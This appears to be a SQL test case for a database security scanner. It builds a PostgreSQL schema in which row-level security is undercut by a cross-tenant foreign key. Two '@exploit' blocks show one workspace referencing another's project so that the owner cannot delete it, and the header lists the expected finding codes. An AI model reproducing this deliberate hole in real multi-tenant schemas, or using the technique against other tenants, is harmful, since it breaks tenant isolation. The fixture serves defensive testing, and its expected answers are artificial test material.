-- title: a tenant's reference keeps another tenant from deleting its own project
-- kind: hole
-- expect: D06|D03|D04
-- also: D03 D04 D05 D06
-- object: public.links
-- logins: app
create role own nologin;
create role app login;
grant create on schema public to own;
grant usage on schema public to app;
set role own;
create table public.projects (
  id uuid primary key default gen_random_uuid(),
  workspace_id int not null,
  name text not null
);
create index on public.projects (workspace_id);
create table public.links (
  workspace_id int not null,
  id uuid not null default gen_random_uuid(),
  project_id uuid not null references public.projects on delete restrict,
  url text not null,
  primary key (workspace_id, id)
);
create index on public.links (project_id);
alter table public.projects enable row level security;
alter table public.projects force row level security;
alter table public.links enable row level security;
alter table public.links force row level security;
create policy workspace on public.projects using (workspace_id = (select nullif(current_setting('app.workspace_id', true), '')::int));
create policy workspace on public.links using (workspace_id = (select nullif(current_setting('app.workspace_id', true), '')::int));
grant select, insert, update, delete on public.projects, public.links to app;
reset role;
revoke create on schema public from own;

-- @data
insert into projects values ('bbbbbbbb-0000-4000-8000-000000000002', 2, 'b');
-- @exploit
select set_config('app.workspace_id', '1', true);
insert into links (workspace_id, project_id, url) values (1, 'bbbbbbbb-0000-4000-8000-000000000002', 'x');
-- @exploit
select set_config('app.workspace_id', '2', true);
create temp table said (state text);
do $$ begin delete from projects; exception when foreign_key_violation or restrict_violation then insert into said values (sqlstate); end $$;
select 1 from said;
